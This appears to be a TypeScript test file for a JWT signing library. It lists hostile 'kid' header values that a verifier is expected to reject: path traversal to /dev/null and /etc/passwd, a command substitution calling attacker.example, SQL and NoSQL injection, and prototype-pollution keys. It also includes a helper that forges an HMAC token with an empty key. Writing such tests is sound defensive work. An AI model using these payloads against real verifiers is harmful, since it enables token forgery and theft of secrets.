import { createHmac } from 'node:crypto';
import { encodeBase64url, joinCompact } from '@mintmark/jws';
import { attacksOn, LIBRARY_ONLY, withHeader, type Make } from '../attack.ts';

const row = attacksOn('kid');
/** Past what servers read of a header. */
const rawRow = attacksOn('kid', LIBRARY_ONLY);

const named = (kid: unknown): Make => withHeader(() => ({ kid }));
const changed = (change: (kid: string) => string): Make => withHeader(({ key }) => ({ kid: change(key.kid) }));

/** The last character of a thumbprint has two unused bits: another spelling of the same bytes. */
function respelled(kid: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return kid.slice(0, -1) + alphabet[alphabet.indexOf(kid.at(-1)!) + 1];
}

/** What `kid: /dev/null` is for: a verifier that reads the key from there has an empty secret. */
const emptyFile: Make = (scene, { claims }) => {
  const header = { alg: 'HS256', kid: '../../../../../../dev/null', typ: 'at+jwt' };
  const input = [header, claims].map((part) => encodeBase64url(JSON.stringify(part))).join('.');
  return joinCompact(input, createHmac('sha256', '').update(input).digest());
};

const FORMS: readonly unknown[] = [
  '../../../../../../dev/null',
  '/proc/self/environ',
  'file:///etc/passwd',
  'https://attacker.example/keys.json',
  "x' UNION SELECT 'key' --",
  '$(curl attacker.example)',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '',
  '*',
  0,
  7,
  true,
  null,
  [],
  {},
  { $ne: null },
];

export const KID_ATTACKS = [
  ...FORMS.map((kid) => row(`kid ${JSON.stringify(kid)}`, 'HEADER_FORBIDDEN', named(kid))),
  row('kid missing', 'HEADER_FORBIDDEN', named(undefined)),
  row('kid as a path, HMAC with an empty key', 'ALG_NOT_ALLOWED', emptyFile),
  rawRow('kid of a megabyte', 'TOKEN_TOO_LARGE', named('A'.repeat(1 << 20))),
  row(
    'kid in a list',
    'HEADER_FORBIDDEN',
    withHeader(({ key }) => ({ kid: [key.kid] })),
  ),
  row(
    'kid with a NUL after it',
    'HEADER_FORBIDDEN',
    changed((kid) => `${kid}\0`),
  ),
  row(
    'kid with a newline after it',
    'HEADER_FORBIDDEN',
    changed((kid) => `${kid}\n`),
  ),
  row(
    'kid with padding',
    'HEADER_FORBIDDEN',
    changed((kid) => `${kid}=`),
  ),
  row(
    'kid with a space before it',
    'HEADER_FORBIDDEN',
    changed((kid) => ` ${kid}`),
  ),
  row('kid respelled in its unused bits', 'HEADER_FORBIDDEN', changed(respelled)),
  row('kid of another form that the key set does hold', 'HEADER_FORBIDDEN', named('keys/legacy')),
  row('kid in another case', 'KEY_UNKNOWN', changed(swapCase)),
  row('kid nobody knows', 'KEY_UNKNOWN', (scene, { claims }) => scene.sign({ claims, key: scene.stranger })),
  row(
    'kid of another trusted key',
    'SIGNATURE_INVALID',
    withHeader((_, { keys }) => ({ kid: keys.otherEs256.kid })),
  ),
];

function swapCase(kid: string): string {
  // All but the last character, which would leave the form of a thumbprint.
  const body = kid
    .slice(0, -1)
    .replace(/[a-zA-Z]/g, (letter) => (letter === letter.toLowerCase() ? letter.toUpperCase() : letter.toLowerCase()));
  return body + kid.at(-1)!;
}
